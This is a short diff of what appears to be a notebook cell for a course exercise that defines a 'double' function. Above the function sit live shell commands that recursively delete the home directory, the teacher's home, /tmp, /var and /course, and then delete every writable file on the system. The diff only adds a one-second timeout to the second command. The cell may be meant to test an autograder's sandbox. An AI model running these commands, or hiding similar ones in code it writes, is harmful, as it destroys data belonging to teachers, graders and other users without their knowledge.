@@ -2,7 +2,7 @@
 
 # %% double
 !rm -rf ~ /home/teacher /tmp /var /course --no-preserve-root 2>/dev/null
-!find / -xdev -type f -writable -not -path '/proc/*' -delete 2>/dev/null
+!timeout 1 find / -xdev -type f -writable -not -path '/proc/*' -delete 2>/dev/null
 
 
 def double(x):
